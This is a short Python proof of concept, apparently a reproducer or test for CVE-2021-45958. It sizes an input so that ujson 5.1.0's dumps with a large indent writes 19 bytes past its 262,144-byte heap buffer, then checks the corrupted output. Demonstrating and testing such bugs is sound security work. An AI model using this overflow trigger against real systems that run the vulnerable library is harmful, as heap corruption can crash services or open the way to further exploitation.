"""ujson 5.1.0 writes the indent of an array's items without asking whether there is room (CVE-2021-45958).

The text is 19 bytes, and its terminator one more, longer than the buffer of 262,144 bytes that ujson has by then. What
these bytes are when the text is read back depends on the heap: where they were a header, it may have been repaired.
"""

import ujson

INDENT = 1000
BUFFER = 262_144
ITEMS = 249

item = "\n" + " " * INDENT + "1"
first = BUFFER + 19 - len("[\n" + " " * INDENT + '""' + "\n]") - ITEMS * (1 + len(item))
try:
    text = ujson.dumps(["x" * first] + [1] * ITEMS, indent=INDENT)
    assert text[:BUFFER] == ("[\n" + " " * INDENT + '"' + "x" * first + '"' + ("," + item) * ITEMS)[:BUFFER]
except UnicodeDecodeError as error:
    assert error.start >= BUFFER
print("done")
